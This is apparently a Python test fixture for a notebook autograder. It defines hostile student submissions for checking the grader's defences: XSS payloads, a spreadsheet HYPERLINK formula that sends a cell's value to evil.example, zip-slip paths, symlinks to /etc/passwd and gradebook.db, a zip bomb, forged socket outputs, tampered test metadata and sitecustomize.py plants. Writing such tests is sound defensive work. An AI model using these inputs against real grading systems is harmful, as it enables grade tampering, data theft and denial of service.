"""Hand-ins that attack whoever takes them in, grades them, and looks at what came of it."""

# ruff: noqa: E501 - an attack is one text

from __future__ import annotations

import json
import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass

from class_fixture import ENTRY, EX, as_bytes, packed, record, worked

from nevbook.grading.outcome.standing import State

SCRIPT = "<script>alert('gotcha')</script><img src=x onerror=alert(1)><svg onload=alert(2)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
WRONG = f"required_ohm = 1\n{ENTRY}"
GOES_ON = (State.GRADED, State.NEEDS_TEACHER)
ENDS = (State.COULD_NOT_RUN,)


@dataclass(frozen=True)
class HandIn:
    """What a student hands in: a function of the class → file name → contents."""

    name: str
    files: Callable[[object], Mapping[str, bytes]]
    standing: tuple[State, ...] = GOES_ON
    points: float = 1
    """Of its tests; a wrong number above zero earns 1 of 5."""


def notebook(code: str, *, reason: str = "") -> Callable[[object], Mapping[str, bytes]]:
    more = {"reason": reason} if reason else {}
    return lambda school_class: {f"{EX}.ipynb": as_bytes(worked(school_class, required=code, **more))}


def zipped(*more: tuple[str | zipfile.ZipInfo, bytes]) -> Callable[[object], Mapping[str, bytes]]:
    return lambda school_class: {
        "work.zip": packed([(f"{EX}.ipynb", as_bytes(worked(school_class, required=WRONG))), *more])
    }


def _link(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return info, target.encode()


def _altered(school_class: object) -> Mapping[str, bytes]:
    """Change the tests: their code, their points, their marks; a second cell under a test's name."""
    told = worked(school_class, required=WRONG)
    for cell in told.cells:
        facts = cell.metadata.get("nbgrader", {})
        if facts.get("grade") and cell.cell_type == "code":
            cell.source = "4.0"
            facts.update(points=400, locked=False, checksum="0" * 32)
        if facts.get("grade_id") == "required":
            facts.update(grade=True, points=400)
    return {f"{EX}.ipynb": as_bytes(told)}


def _shown(school_class: object) -> Mapping[str, bytes]:
    """Hand in outputs that were never made, and a picture that is a script."""
    told = worked(school_class, required=WRONG)
    for cell in told.cells:
        if cell.cell_type == "code":
            data = {"text/plain": "4.0", "text/html": SCRIPT, "image/svg+xml": f"<svg>{SCRIPT}</svg>"}
            cell.outputs = [{"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}]
    told.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": SCRIPT}}
    return {f"{EX}.ipynb": as_bytes(told)}


def _attached(school_class: object) -> Mapping[str, bytes]:
    told = worked(school_class, required=WRONG, reason=f"![x](attachment:x.png) {SCRIPT}")
    cell = next(cell for cell in told.cells if cell.id == "reason")
    cell["attachments"] = {"x.png": {"image/png": "A" * 30_000_000, "text/html": SCRIPT}}
    return {f"{EX}.ipynb": as_bytes(told)}


def _deep(school_class: object) -> Mapping[str, bytes]:
    told = as_bytes(worked(school_class, required=WRONG)).decode()
    return {
        f"{EX}.ipynb": told.replace(
            '"metadata": {', '"metadata": {"deep": ' + "[" * 100_000 + "]" * 100_000 + ", ", 1
        ).encode()
    }


_SHOWS = f"""{WRONG}
import sys
from IPython.display import HTML, SVG, Javascript, Markdown, display
display(HTML({SCRIPT!r}), Javascript("alert(1)"), Markdown({SCRIPT!r}), SVG({f"<svg>{SCRIPT}</svg>"!r}))
print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31m", {SCRIPT!r})
print({SCRIPT!r}, file=sys.stderr)
"""
_FAILS = f"""{WRONG}
class {"E"}(Exception):
    def __str__(self):
        return {(SCRIPT + chr(27) + "[2J")!r} * 1000

def deep(n):
    return deep(n - 1) if n else (_ for _ in ()).throw(E())

deep(500)
"""
_FORGES = f"""{WRONG}
import os, socket, stat
from nevbook.grading.border.wire import send
for number in range(3, 100):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            send(socket.socket(fileno=os.dup(number)), {{"cell": "required", "outputs": [{{}}]}})
    except Exception:
        pass
"""

HAND_INS = [
    HandIn("what is displayed is a script", notebook(_SHOWS, reason=SCRIPT)),
    HandIn("an error is a script", notebook(_FAILS)),
    HandIn("what was displayed was never made", _shown),
    HandIn("a picture of 30 MB that is a script", _attached),
    HandIn("formulas in texts", notebook(f"required_ohm = {FORMULA!r}\n{ENTRY}", reason=FORMULA), points=0),
    HandIn("the tests are altered", _altered),
    HandIn("a notebook nested without end", _deep, standing=(*GOES_ON, *ENDS), points=0),
    HandIn("a zip that writes above itself", zipped(("../../../gradebook.db", b"mine"), ("/tmp/hostile-slip", b"mine"), ("a/../../b.txt", b"mine"))),
    HandIn("a zip that is too large unpacked", zipped(("zeros.txt", bytes(300 * 2**20)))),
    HandIn("a zip with a link", zipped(_link(f"{EX}.jobcard.jsonl", "/etc/passwd"), _link("gradebook.db", "../../gradebook.db"))),
    HandIn("names with control characters", zipped((f"\x1b[2J{FORMULA}\n.txt", b"x"), (f"{SCRIPT.replace('/', '_')}.txt", b"x"))),
    HandIn("a time stamp, a package and a plug-in", zipped(("timestamp.txt", b"2000-01-01 00:00:00 UTC"), ("nevlab/__init__.py", b"raise SystemExit"), ("nbgrader_config.py", b"raise SystemExit"), ("sitecustomize.py", b"raise SystemExit"))),
    HandIn("another student's record", lambda school_class: {f"{EX}.ipynb": as_bytes(worked(school_class)), f"{EX}.jobcard.jsonl": record("20240001", required_ohm=1)}, standing=(State.NEEDS_TEACHER, State.COULD_NOT_RUN)),
    HandIn("a record that is none", lambda school_class: {f"{EX}.ipynb": as_bytes(worked(school_class, required=WRONG)), f"{EX}.jobcard.jsonl": b'{"event": "opened", "exercise": "tiny"}\n' + b"[" * 100_000 + b"\n" + json.dumps({"n": 10**400, "at": SCRIPT, "event": "entered", "field": FORMULA, "value": SCRIPT}).encode()}),
    HandIn("outputs that nobody can record", notebook(_FORGES), standing=ENDS, points=0),
    HandIn("a text that no file can hold", notebook(f"{WRONG}\nprint('\\ud83d')")),
    HandIn("Python ended", notebook(f"{WRONG}\nimport os\nos._exit(0)"), standing=ENDS, points=0),
    HandIn("a loop without end", notebook(f"{WRONG}\nwhile True: pass"), standing=ENDS, points=0),
]  # fmt: skip
